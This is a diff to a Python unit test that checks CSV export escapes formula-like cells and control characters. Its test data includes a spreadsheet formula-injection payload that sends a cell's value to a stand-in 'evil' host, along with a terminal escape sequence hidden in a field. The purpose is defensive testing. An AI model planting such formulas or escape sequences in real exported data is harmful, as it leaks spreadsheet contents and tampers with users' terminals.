@@ -20,7 +20,7 @@ def test_formula_like_cells_are_quoted_and_control_characters_escaped():
     )
     rows = list(csv.reader(io.StringIO(text)))
     assert rows[0] == ["what", "who", "seq"]
-    assert rows[1] == ["'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'+1", "7"]
+    assert rows[1] == ['\'=HYPERLINK("http://evil/?"&A1,"x")', "'+1", "7"]
     assert rows[2] == ["'@SUM(A1:A9)", "ops\\x1b[2Jroot", "-3"]
     assert rows[3] == ["plain, with a comma", "", "1.5"]
     assert safe_cell("-rf") == "'-rf" and safe_cell(True) == "True"
